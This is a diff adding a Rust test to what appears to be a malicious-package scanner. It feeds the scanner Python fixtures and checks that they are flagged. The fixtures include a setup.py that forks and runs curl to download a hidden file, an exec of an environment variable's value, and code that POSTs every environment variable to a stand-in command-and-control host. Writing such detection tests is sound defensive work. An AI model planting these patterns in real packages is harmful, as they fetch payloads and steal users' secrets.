@@ -460,3 +460,59 @@ fn conditional_lookups_wide_text_hooks_and_written_modules() {
     }
     assert!(wrong.is_empty(), "{wrong:#?}");
 }
+
+/// A downloader exec'd after a fork, exec of an environment variable's value, and the
+/// environment's items sent inline (tester t10: b04, c19, d02).
+#[test]
+fn forked_downloader_env_code_and_inline_env_items() {
+    use Severity::*;
+    let cases: &[(&str, &str, &str, &str, Severity)] = &[
+        (
+            "fork-execv-curl",
+            "setup.py",
+            "from setuptools import setup\nimport os\n\
+             if os.fork() == 0:\n\
+             \x20   os.execv('/usr/bin/curl', ['curl', '-o', '/tmp/.y', 'https://dl.example.invalid/y'])\n\
+             setup(name='b04', version='1.0')\n",
+            "python-network-at-load",
+            Medium,
+        ),
+        (
+            "exec-env",
+            "__init__.py",
+            "import os\nexec(os.environ.get('C19_HOOK', ''))\n",
+            "python-exec-computed",
+            Medium,
+        ),
+        (
+            "env-items-inline",
+            "__init__.py",
+            "import os, json, http.client\n\
+             c = http.client.HTTPSConnection('c2.example.invalid')\n\
+             c.request('POST', '/e', body=json.dumps({k: v for k, v in os.environ.items()}))\n",
+            "python-credential-stealer",
+            Critical,
+        ),
+    ];
+    let dir = tempfile::tempdir().expect("tempdir");
+    let mut wrong = Vec::new();
+    for (case, file, src, rule, want) in cases {
+        let p = package(dir.path(), case, file, src);
+        let r = scan_file(&p, BudgetLimits::default());
+        if worst(&r, rule).is_none_or(|w| w < *want) {
+            wrong.push(format!("{case}: want {rule} {want}, got {:?}", summary(&r)));
+        }
+    }
+    // coverage's gated exec of its own literal stays below medium.
+    let p = package(
+        dir.path(),
+        "coverage-like",
+        "__init__.py",
+        "import os\nexec(os.environ.get('COVERAGE_PROCESS_START') and 'import coverage; coverage.process_startup()' or '')\n",
+    );
+    let r = scan_file(&p, BudgetLimits::default());
+    if r.worst().is_some_and(|w| w >= Medium) {
+        wrong.push(format!("coverage-like: {:?}", summary(&r)));
+    }
+    assert!(wrong.is_empty(), "{wrong:#?}");
+}
